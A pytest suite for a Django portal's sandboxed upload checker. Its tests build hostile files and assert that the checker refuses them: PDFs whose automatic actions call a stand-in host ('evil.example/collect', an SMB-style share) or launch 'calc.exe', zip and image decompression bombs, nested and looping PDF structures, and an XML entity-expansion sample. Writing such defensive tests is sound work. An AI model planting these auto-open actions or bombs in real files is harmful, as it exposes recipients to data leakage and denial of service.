"""Every check of an untrusted file runs in bounded time and memory, and a
PDF's automatic actions are refused wherever they hide in a chain.

The checks run in a child process (``aquatiris_portal.filecheck``) with
CPU-time and address-space limits and a wall-clock timeout: pathological
files are judged (refused, or accepted when harmless) and a file whose
check needs more than the limits is refused with a clear message, logged,
and nothing is stored or mailed. No test here asserts a wall time: the
limits are lowered and the verdicts say which one was hit.
"""

import io
import logging
import re
import struct
import zipfile
import zlib
from html import unescape

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils.translation import gettext
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from PIL import Image

from aquatiris_portal import uploads
from aquatiris_portal.filecheck import pdf_scan, verdicts
from aquatiris_portal.filecheck.runner import check_file
from aquatiris_portal.records.models import PortalDocument
from aquatiris_portal.sync.files import _check_docx
from aquatiris_portal.sync.validation import Rejected
from tests.exports import make_docx, sha256
from tests.unit.filecheck.test_uploads_hostile import (  # noqa: F401 (fixtures)
    assert_nothing_happened,
    client_form,
    spanc_form,
    stored_files,
    upload,
)
from tests.unit.sync.test_sync_hostile import assert_rest_imported, exports  # noqa: F401 (a fixture)

MIB = 1024 * 1024
UNCHECKED = "“%(name)s” could not be checked in time: please save it again as a PDF or a JPEG photo and send it again."
ACTIVE = (
    "“%(name)s” contains active content (scripts, automatic actions or embedded files), which the portal "
    "does not accept. Please print it again as a PDF (“Print” then “Save as PDF”) and send the new file."
)
UNREADABLE_PDF = "“%(name)s” is not a readable PDF file. Please check it opens on your computer and send it again."


# --- files made here ---------------------------------------------------------------


def raw_pdf(objects, *, trailer=b""):
    """A PDF of ``{number: body}`` with a classic cross-reference table;
    ``{xref}`` in ``trailer`` is the table's offset."""
    parts, offsets, at = [b"%PDF-1.4\n"], {}, 9
    for number in sorted(objects):
        offsets[number] = at
        parts.append(b"%d 0 obj\n%s\nendobj\n" % (number, objects[number]))
        at += len(parts[-1])
    xref_at = at
    size = max(objects) + 1
    rows = [b"0000000000 65535 f \n"] + [
        (b"%010d 00000 n \n" % offsets[n]) if n in offsets else b"0000000000 65535 f \n" for n in range(1, size)
    ]
    parts.append(b"xref\n0 %d\n" % size + b"".join(rows))
    parts.append(
        b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n"
        % (size, trailer.replace(b"{xref}", b"%d" % xref_at), xref_at)
    )
    return b"".join(parts)


PAGES = {
    1: b"<< /Type /Catalog /Pages 2 0 R >>",
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
}


def catalog_with(extra, **objects):
    """The one-page PDF with ``extra`` in its catalog and objects ``o4=...``."""
    numbered = {**PAGES, 1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % extra}
    numbered.update({int(key[1:]): body for key, body in objects.items()})
    return raw_pdf(numbered)


def stream_tokens(size=164 * 1024):
    """``stream\\n`` repeated, no ``endstream``: quadratic for the former regex
    (19 s for these 164 KiB, a worker held all along)."""
    return b"%PDF-1.4\n" + b"stream\n" * (size // 7)


def many_objects_pdf(count=150_000):
    """A valid PDF of ``count`` small objects, each referring to the next:
    seconds of work for a parser (about 7.7 MB, under the upload limit)."""
    objects = dict(PAGES)
    objects.update({number: b"[%d 0 R]" % (number + 1) for number in range(4, count)})
    return raw_pdf(objects)


def object_stream_loop():
    """Objects 4 and 5 each said (by the cross-reference stream) to live in
    the other's object stream."""
    parts, offsets = [b"%PDF-1.5\n"], {}
    for number in (1, 2, 3):
        offsets[number] = sum(map(len, parts))
        body = PAGES[number] if number != 1 else b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"
        parts.append(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    xref_at = sum(map(len, parts))
    rows = [b"\x00" + struct.pack(">I", 0) + b"\xff\xff"]
    rows += [b"\x01" + struct.pack(">I", offsets[n]) + b"\x00\x00" for n in (1, 2, 3)]
    rows += [b"\x02" + struct.pack(">I", 5) + b"\x00\x00", b"\x02" + struct.pack(">I", 4) + b"\x00\x00"]
    rows += [b"\x01" + struct.pack(">I", xref_at) + b"\x00\x00"]
    table = b"".join(rows)
    parts.append(
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\n"
        b"endobj\nstartxref\n%d\n%%%%EOF\n" % (len(table), table, xref_at)
    )
    return b"".join(parts)


def huge_xref():
    """A table announcing a billion entries."""
    return raw_pdf(PAGES).replace(b"xref\n0 4\n", b"xref\n0 1000000000\n")


def png_header_only(width, height):
    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + chunk(b"IEND", b"")
    )


def image_bytes(size, kind="JPEG", colour=(90, 120, 60)):
    buffer = io.BytesIO()
    Image.new("RGB", size, colour).save(buffer, kind)
    return buffer.getvalue()


def docx_with(members):
    """A Word document with extra or replaced ``{name: bytes}`` members."""
    source = zipfile.ZipFile(io.BytesIO(make_docx("Contrat")))
    parts = {info.filename: source.read(info) for info in source.infolist()}
    parts.update(members)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx_bomb():
    """64 MiB of zeros packed into some 64 KiB (a thousand times)."""
    return docx_with({"word/media/image1.bin": b"\0" * (64 * MIB)})


def docx_deep_xml(depth=20_000):
    return docx_with({"word/document.xml": b"<w:document>" + b"<a>" * depth + b"</a>" * depth + b"</w:document>"})


def outcome(call):
    """``"accepted"`` or the ValidationError's code of ``call()``."""
    try:
        call()
    except ValidationError as error:
        return error.code if error.code else error.error_list[0].code
    return "accepted"


def pdf_outcome(data, name="rapport.pdf"):
    return outcome(lambda: uploads.check_pdf(SimpleUploadedFile(name, data)))


# --- the pre-scan is linear and finds what the regex found ----------------------------

_OLD_STREAM = re.compile(rb"stream\r?\n.*?endstream", re.DOTALL)
_OLD_ESCAPE = re.compile(rb"#([0-9A-Fa-f]{2})")


def _old_outside_streams(data):
    text = _OLD_STREAM.sub(b" ", data)
    return _OLD_ESCAPE.sub(lambda match: bytes([int(match.group(1), 16)]), text)


TOKENS = [b"stream", b"\n", b"\r\n", b"\r", b"endstream", b"x", b" ", b"/JS", b"/J#53", b"<script", b"#4A"]


@hypothesis_settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(TOKENS), max_size=40))
def test_the_linear_pre_scan_keeps_what_the_regex_kept(tokens):
    data = b"".join(tokens)
    assert pdf_scan.outside_streams(data) == _old_outside_streams(data)


@pytest.mark.parametrize("size", [164 * 1024, 1024 * 1024])
def test_a_file_of_stream_tokens_is_judged_in_time(settings, size):
    """164 KiB held a worker 19 s; 1 MiB would have held it for minutes.
    With a 5 s limit both are judged (unreadable), not cut off."""
    settings.AQUATIRIS_PORTAL_FILE_CHECK_SECONDS = 5
    assert pdf_outcome(stream_tokens(size)) == "corrupt"


# --- pathological PDFs: judged, never cut off, never a crash ----------------------------

PATHOLOGICAL_PDFS = {
    "deeply_nested_arrays": lambda: raw_pdf({**PAGES, 4: b"[" * 100_000 + b"]" * 100_000}),
    "deeply_nested_dictionaries": lambda: raw_pdf({**PAGES, 4: b"<< /A " * 50_000 + b"1" + b" >>" * 50_000}),
    "xref_whose_prev_is_itself": lambda: raw_pdf(PAGES, trailer=b"/Prev {xref}"),
    "xref_of_a_billion_entries": huge_xref,
    "object_streams_inside_each_other": object_stream_loop,
    "stream_tokens_without_end": stream_tokens,
}


@pytest.mark.parametrize("case", list(PATHOLOGICAL_PDFS))
def test_a_pathological_pdf_is_judged_within_the_limits(case):
    assert pdf_outcome(PATHOLOGICAL_PDFS[case]()) in ("accepted", "corrupt", "active_pdf")


# --- automatic actions, anywhere in a chain ---------------------------------------------

URI = b"<< /S /URI /URI (https://evil.example/collect) >>"
GOTOR_SHARE = b"<< /S /GoToR /F (//evil.example/share/x.pdf) /D [0 /Fit] >>"
GOTO = b"<< /S /GoTo /D [3 0 R /Fit] >>"

AUTOMATIC = {
    "goto_then_uri": lambda: catalog_with(b"/OpenAction 4 0 R", o4=b"<< /S /GoTo /D [3 0 R /Fit] /Next %s >>" % URI),
    "goto_then_array_with_gotor": lambda: catalog_with(
        b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [%s %s] >>" % (GOTO, GOTOR_SHARE)
    ),
    "goto_next_indirect_uri": lambda: catalog_with(
        b"/OpenAction 4 0 R", o4=b"<< /S /GoTo /D [3 0 R /Fit] /Next [5 0 R] >>", o5=URI
    ),
    "next_loop": lambda: catalog_with(
        b"/OpenAction 4 0 R",
        o4=b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>",
        o5=b"<< /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>",
    ),
    "uri_open_action": lambda: catalog_with(b"/OpenAction %s" % URI),
    "launch_in_page_additional_actions": lambda: raw_pdf(
        {
            **PAGES,
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O << /S /Launch /F (calc.exe) >> >> >>",
        }
    ),
    "gotor_in_catalog_additional_actions": lambda: catalog_with(b"/AA << /WC %s >>" % GOTOR_SHARE),
}
HARMLESS = {
    "goto_alone": lambda: catalog_with(b"/OpenAction 4 0 R", o4=GOTO),
    "destination_array": lambda: catalog_with(b"/OpenAction [3 0 R /Fit]"),
    "named_destination": lambda: catalog_with(b"/OpenAction (chapter1)"),
    "a_link_to_a_web_page_on_click": lambda: raw_pdf(
        {
            **PAGES,
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
            4: b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A %s >>" % URI,
        }
    ),
}


@pytest.mark.parametrize("case", list(AUTOMATIC))
def test_an_automatic_action_is_refused_anywhere_in_its_chain(case):
    assert pdf_outcome(AUTOMATIC[case]()) == "active_pdf"


@pytest.mark.parametrize("case", list(HARMLESS))
def test_opening_at_a_page_and_links_clicked_are_accepted(case):
    assert pdf_outcome(HARMLESS[case]()) == "accepted"


def test_a_looping_chain_is_named_as_such():
    result = check_file("pdf", AUTOMATIC["next_loop"](), seconds=10, memory_bytes=512 * MIB)
    assert result["code"] == verdicts.ACTIVE and "(action chain loops)" in result["detail"]


# --- images ----------------------------------------------------------------------------

IMAGES = {
    "png_declaring_50000_by_50000": (lambda: png_header_only(50_000, 50_000), "png", "bomb"),
    "png_declaring_7000_by_7000": (lambda: png_header_only(7_000, 7_000), "png", "too_many_pixels"),
    "truncated_jpeg": (lambda: image_bytes((800, 600))[:4000], "jpeg", "corrupt"),
    "truncated_png": (lambda: image_bytes((300, 200), "PNG", colour=(1, 2, 3))[:-40], "png", "corrupt"),
    "png_header_and_nothing": (lambda: png_header_only(100, 100)[:33], "png", "corrupt"),
}


@pytest.mark.parametrize("case", list(IMAGES))
def test_a_hostile_image_is_refused(case):
    build, kind, code = IMAGES[case]
    assert outcome(lambda: uploads.clean_image(SimpleUploadedFile("photo", build()), kind)) == code


def test_a_photo_of_the_pixel_limit_is_cleaned_within_the_default_limits():
    """40 Mpx is the largest photo accepted: the default time and memory
    limits leave room to decode and encode it again."""
    clean, kind = uploads.clean_image(SimpleUploadedFile("grand.jpg", image_bytes((8000, 5000))), "jpeg")
    assert kind == "jpeg" and Image.open(clean).size == (8000, 5000)


# --- DOCX of exports ---------------------------------------------------------------------

DOCX = {
    "zip_bomb": (docx_bomb, verdicts.BOMB),
    "deep_xml": (docx_deep_xml, verdicts.CORRUPT),
    "xml_with_entities": (
        lambda: docx_with(
            {"word/document.xml": b'<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><d>&b;</d>'}
        ),
        verdicts.CORRUPT,
    ),
    "macros": (lambda: docx_with({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), verdicts.ACTIVE),
    "not_a_word_document": (lambda: make_docx().replace(b"word/document.xml", b"word/documant.xml"), verdicts.CORRUPT),
    "truncated_zip": (lambda: make_docx()[:300], verdicts.CORRUPT),
}


@pytest.mark.parametrize("case", list(DOCX))
def test_a_hostile_docx_is_refused_from_an_export(case):
    build, code = DOCX[case]
    data = build()
    assert check_file("docx", data, seconds=10, memory_bytes=512 * MIB)["code"] == code
    with pytest.raises(Rejected):
        _check_docx(data, "files/D-9.docx")


@pytest.mark.django_db
def test_a_docx_bomb_in_an_export_is_quarantined_nothing_stored_and_the_rest_imported(exports):
    bomb = docx_bomb()
    record = {
        "type": "document",
        "id": "D-BOMB",
        "installation": "I-1",
        "title": "Contrat",
        "file": "files/D-BOMB.docx",
        "sha256": sha256(bomb),
    }
    _run, quarantined = exports([record], files={"files/D-BOMB.docx": bomb})
    assert "not a readable Word (DOCX) document" in quarantined["D-BOMB"]
    assert not PortalDocument.objects.filter(external_id="D-BOMB").exists()
    assert [path for path in stored_files() if path.name == "D-BOMB.docx"] == []
    assert_rest_imported()


@pytest.mark.django_db
def test_a_docx_whose_check_does_not_finish_is_quarantined_with_its_reason(exports, monkeypatch):
    """The limits themselves are proven above; here, what the sync says."""
    monkeypatch.setattr(
        uploads, "check_file", lambda *args, **kwargs: verdicts.verdict(verdicts.TIMEOUT, "exit code -9", elapsed=10.0)
    )
    data = make_docx("Lent")
    record = {
        "type": "document",
        "id": "D-SLOW",
        "installation": "I-1",
        "title": "Contrat",
        "file": "files/D-SLOW.docx",
        "sha256": sha256(data),
    }
    _run, quarantined = exports([record], files={"files/D-SLOW.docx": data})
    assert "could not be checked in time" in quarantined["D-SLOW"]
    assert not PortalDocument.objects.filter(external_id="D-SLOW").exists()


def test_a_plain_docx_is_accepted():
    assert check_file("docx", make_docx("Contrat"), seconds=10, memory_bytes=512 * MIB)["code"] is None
    _check_docx(make_docx("Contrat"), "files/D-2.docx")


# --- the limits -----------------------------------------------------------------------


@pytest.fixture(scope="module")
def slow_pdf():
    return many_objects_pdf()


def test_the_cpu_limit_stops_a_check_that_needs_more(slow_pdf):
    """One second of CPU, a minute of wall clock: the CPU limit is what
    stops it (SIGXCPU), and the verdict says it was not checked in time."""
    result = check_file("pdf", slow_pdf, seconds=60, cpu_seconds=1, memory_bytes=512 * MIB)
    assert result["code"] == verdicts.TIMEOUT
    assert result["detail"] == "CPU limit"


def test_the_wall_clock_limit_stops_a_check_that_needs_more(slow_pdf):
    result = check_file("pdf", slow_pdf, seconds=0.3, cpu_seconds=60, memory_bytes=512 * MIB)
    assert result["code"] == verdicts.TIMEOUT
    assert result["detail"] == "wall clock"  # the parent stopped waiting and killed it


def test_the_files_of_one_form_share_one_budget(settings, slow_pdf, monkeypatch):
    """Five files that each take their whole limit would hold a worker five
    times as long: the form's budget is spent on the first, and the others
    are refused unread, each with the message, nothing returned."""
    settings.AQUATIRIS_PORTAL_FILE_CHECK_SECONDS = 60
    settings.AQUATIRIS_PORTAL_FILE_CHECK_FORM_SECONDS = 0.5
    calls = []
    real = uploads.check_file

    def counted(*args, **kwargs):
        calls.append(kwargs["seconds"])
        return real(*args, **kwargs)

    monkeypatch.setattr(uploads, "check_file", counted)
    files = [SimpleUploadedFile(f"rapport-{n}.pdf", slow_pdf, content_type="application/pdf") for n in range(5)]
    with pytest.raises(ValidationError) as refused:
        uploads.validate_uploads(files, max_bytes=len(slow_pdf) + 1)
    assert len(refused.value.messages) == 5
    said = gettext(
        "“%(name)s” could not be checked in time: please save it again as a PDF or a JPEG photo and send it again."
    )
    assert refused.value.messages == [said % {"name": f"rapport-{n}.pdf"} for n in range(5)]
    assert len(calls) <= 2 and all(seconds <= 0.5 for seconds in calls), calls


def test_outside_a_form_each_file_keeps_its_own_limit(settings, monkeypatch):
    settings.AQUATIRIS_PORTAL_FILE_CHECK_SECONDS = 7
    settings.AQUATIRIS_PORTAL_FILE_CHECK_FORM_SECONDS = 0.001
    seen = []
    monkeypatch.setattr(uploads, "check_file", lambda *a, **k: seen.append(k["seconds"]) or {"code": None})
    uploads.bounded_check("pdf", b"%PDF-1.4", name="a.pdf")
    assert seen == [7]


def test_the_memory_limit_stops_a_check_that_needs_more():
    """A 36 Mpx photo (108 MB of pixels, twice) does not fit in 256 MiB; a
    small one does, under the same limit."""
    small = check_file("png", image_bytes((300, 200), "PNG"), seconds=30, memory_bytes=256 * MIB, max_pixels=40_000_000)
    assert small["code"] is None and Image.open(io.BytesIO(small["data"])).size == (300, 200)
    big = check_file("png", image_bytes((6000, 6000), "PNG"), seconds=30, memory_bytes=256 * MIB, max_pixels=40_000_000)
    assert big["code"] == verdicts.MEMORY


def test_the_clean_image_stored_is_the_childs():
    """What the parent keeps is the bytes the child encoded: no metadata
    left, a new JPEG (not the upload)."""
    original = image_bytes((64, 48))
    clean, kind = uploads.clean_image(SimpleUploadedFile("p.jpg", original), "jpeg")
    data = clean.read()
    assert kind == "jpeg" and data != original and data.startswith(b"\xff\xd8")


@pytest.mark.django_db
def test_a_file_beyond_the_limit_is_refused_in_the_client_form_and_nothing_happens(
    client_form, settings, mailoutbox, caplog, slow_pdf
):
    settings.AQUATIRIS_PORTAL_FILE_CHECK_SECONDS = 0.3
    with caplog.at_level(logging.WARNING, logger="aquatiris_portal"):
        response, errors = client_form([upload("rapport.pdf", slow_pdf)])
    message = gettext(UNCHECKED) % {"name": "rapport.pdf"}
    assert errors == [message]
    assert message in unescape(response.content.decode())
    assert_nothing_happened(mailoutbox)
    [record] = [r for r in caplog.records if "did not finish" in r.getMessage()]
    assert record.name.startswith("aquatiris_portal")
    assert "pdf file" in record.getMessage() and f"of {len(slow_pdf)} bytes" in record.getMessage()
    assert "obj" not in record.getMessage()  # never the content


@pytest.mark.django_db
def test_the_file_of_stream_tokens_is_refused_by_the_spanc_form_and_nothing_happens(spanc_form, mailoutbox):
    _response, errors = spanc_form([upload("rapport.pdf", stream_tokens())])
    assert errors == [gettext(UNREADABLE_PDF) % {"name": "rapport.pdf"}]
    assert_nothing_happened(mailoutbox)


@pytest.mark.django_db
def test_a_chained_uri_open_action_is_neither_stored_nor_mailed_to_the_franchisee(spanc_form, mailoutbox):
    _response, errors = spanc_form([upload("rapport.pdf", AUTOMATIC["goto_then_uri"]())])
    assert errors == [gettext(ACTIVE) % {"name": "rapport.pdf"}]
    assert_nothing_happened(mailoutbox)


# --- whatever the bytes after the magic, only the documented error ----------------------

MAGIC = {
    "pdf": b"%PDF-1.7\n",
    "png": b"\x89PNG\r\n\x1a\n",
    "jpeg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00",
    "docx": b"PK\x03\x04\x14\x00\x00\x00\x08\x00",
}


@hypothesis_settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(kind=st.sampled_from(sorted(MAGIC)), tail=st.binary(max_size=2048))
def test_any_bytes_after_a_magic_number_give_a_validation_error_or_a_clean_file(kind, tail):
    data = MAGIC[kind] + (b"[Content_Types].xml word/" if kind == "docx" else b"") + tail
    try:
        uploads.checked_file(SimpleUploadedFile("f", data), allowed=("pdf", "jpeg", "png", "heic"))
    except ValidationError as error:
        assert error.code in ("corrupt", "bad_type", "active_pdf", "polyglot", "encrypted", "bomb", "too_many_pixels")
    result = check_file(kind, data, seconds=10, memory_bytes=512 * MIB, max_pixels=40_000_000)
    assert result["code"] not in verdicts.UNCHECKED
